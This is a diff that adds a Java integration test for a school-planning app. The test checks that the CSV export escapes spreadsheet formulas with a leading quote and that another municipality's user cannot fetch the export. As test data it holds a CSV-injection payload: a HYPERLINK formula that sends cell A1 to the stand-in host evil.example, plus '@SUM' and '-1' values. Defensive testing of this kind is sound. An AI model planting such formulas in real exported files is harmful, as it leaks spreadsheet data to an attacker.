@@ -9,6 +9,7 @@ import static se.styrkedja.web.it.Fixtures.fields;
 import static se.styrkedja.web.it.Fixtures.texts;
 
 import com.fasterxml.jackson.databind.JsonNode;
+import java.io.StringReader;
 import java.time.LocalDate;
 import java.util.ArrayList;
 import java.util.HashMap;
@@ -19,6 +20,8 @@ import java.util.concurrent.ExecutorService;
 import java.util.concurrent.Executors;
 import java.util.concurrent.Future;
 import java.util.concurrent.atomic.AtomicInteger;
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVRecord;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import se.styrkedja.core.time.Clocks;
@@ -223,6 +226,43 @@ class PlansIT {
     Answer foreignUnit = Api.as("rektor.hassleholm").post("plans", localPlan(nextYear(), school));
     assertProblem(foreignUnit, 400, "plans.plan.invalid");
     assertEquals(List.of("unitId"), fields(foreignUnit.body()));
+  }
+
+  /**
+   * What a principal types reaches leadership's spreadsheet as text: a title that Excel would run
+   * as a formula (CSV injection) comes out with a single quote in front. Another municipality gets
+   * no export of the plan at all.
+   */
+  @Test
+  void theCsvExportShowsAFormulaAsTextNeverRunsIt() throws Exception {
+    Api rektor = Api.as("rektor.botkyrka");
+    String id = created(rektor, localPlan(nextYear(), school)).get("id").asText();
+    String formula = "=HYPERLINK(\"https://evil.example/?\"&A1;\"Klicka här\")";
+    Map<String, Object> activity = activityBody(formula);
+    activity.put("description", "@SUM(A1:A9)");
+    activity.put("successCriteria", "-1");
+    Answer added = rektor.post("plans/" + id + "/activities", activity);
+    assertEquals(201, added.status(), added.raw());
+
+    Answer csv = rektor.get("plans/" + id + "/export/csv");
+    assertEquals(200, csv.status(), csv.raw());
+    assertTrue(csv.contentType().startsWith("text/csv"), csv.contentType());
+    assertTrue(csv.raw().startsWith("\uFEFF"), "the byte-order mark Swedish Excel needs");
+    List<CSVRecord> rows =
+        CSVFormat.Builder.create()
+            .setDelimiter(';')
+            .get()
+            .parse(new StringReader(csv.raw().substring(1)))
+            .getRecords();
+    assertEquals(2, rows.size(), csv.raw());
+    assertEquals("Insats", rows.get(0).get(1));
+    assertEquals("'" + formula, rows.get(1).get(1), csv.raw());
+    assertEquals("'-1", rows.get(1).get(11), csv.raw());
+    assertEquals("'@SUM(A1:A9)", rows.get(1).get(12), csv.raw());
+
+    Answer foreign = Api.as("admin.hassleholm").get("plans/" + id + "/export/csv");
+    assertEquals(404, foreign.status(), foreign.raw());
+    assertFalse(foreign.raw().contains("HYPERLINK"), foreign.raw());
   }
 
   @Test
